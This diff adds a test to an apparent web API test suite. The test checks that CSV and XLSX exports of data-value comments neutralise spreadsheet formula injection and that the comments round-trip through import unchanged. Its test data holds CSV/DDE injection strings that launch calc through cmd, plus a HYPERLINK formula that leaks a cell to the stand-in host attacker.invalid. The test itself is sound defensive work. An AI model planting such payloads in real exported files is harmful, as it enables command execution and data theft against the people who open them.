@@ -135,6 +135,69 @@ describe.each(TEST_DB_KINDS)('imports, templates and exports over HTTP on %s', (
     expect(res.body.replace(/^\uFEFF/, '').startsWith(start)).toBe(true);
   });
 
+  it('writes text that would start a formula with an apostrophe in a CSV export, which imports back unchanged', async () => {
+    const comments = [
+      "=cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+HYPERLINK("http://attacker.invalid/?leak=" & A1, "Bấm vào đây")',
+      '- chưa đủ số liệu',
+    ];
+    const quoted = (text: string) => (/[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
+    const payload = csv([
+      'indicator_code,unit_code,period,value,numerator,denominator,comment',
+      ...comments.map((c, i) => `C1,15,2021Q${i + 1},${i + 1},,,${quoted(c)}`),
+    ]);
+    const first = await app.inject({
+      method: 'POST',
+      url: '/api/v1/imports?sheet=values',
+      headers: { 'content-type': 'text/csv' },
+      payload,
+    });
+    expect(first.json()).toMatchObject({ sheets: { values: { inserted: 4 } } });
+
+    const exported = await app.inject('/api/v1/values/export?format=csv&period=2021');
+    expect(exported.statusCode).toBe(200);
+    const lines = exported.body.split('\r\n');
+    for (const [i, c] of comments.entries()) {
+      const line = lines.find((l) => l.startsWith(`C1,15,2021Q${i + 1},`)) ?? '';
+      expect(line.startsWith(`C1,15,2021Q${i + 1},${i + 1},,,${quoted(`'${c}`)},`), line).toBe(true);
+    }
+
+    const before = await dumpDatabase(db, USED_TOKENS);
+    const back = await app.inject({
+      method: 'POST',
+      url: '/api/v1/imports?sheet=values',
+      headers: { 'content-type': 'text/csv' },
+      payload: exported.rawPayload,
+    });
+    expect(back.statusCode, back.body).toBe(200);
+    expect(back.json()).toMatchObject({ sheets: { values: { inserted: 0, updated: 0 } } });
+    expect(await dumpDatabase(db, USED_TOKENS)).toEqual(before);
+    const stored = await db.query<{ comment: string }>(
+      `SELECT comment FROM data_value WHERE period LIKE '2021Q%' ORDER BY period`,
+    );
+    expect(stored.map((r) => r.comment)).toEqual(comments);
+
+    // The XLSX export writes them as text cells, never as formulas.
+    const xlsx = await app.inject('/api/v1/values/export?format=xlsx&period=2021');
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(
+      xlsx.rawPayload.buffer.slice(
+        xlsx.rawPayload.byteOffset,
+        xlsx.rawPayload.byteOffset + xlsx.rawPayload.byteLength,
+      ) as ArrayBuffer,
+    );
+    const sheet = wb.getWorksheet('values');
+    const written = new Map<string, ExcelJS.Cell>();
+    sheet?.eachRow((r) => written.set(String(r.getCell(3).value), r.getCell(7)));
+    for (const [i, c] of comments.entries()) {
+      const cell = written.get(`2021Q${i + 1}`);
+      expect(cell?.type).toBe(ExcelJS.ValueType.String);
+      expect(cell?.value).toBe(c);
+    }
+    sheet?.eachRow((r) => r.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+  });
+
   it('exports as xlsx and refuses an unknown plan before streaming', async () => {
     const res = await app.inject('/api/v1/values/export?format=xlsx');
     expect(res.statusCode).toBe(200);
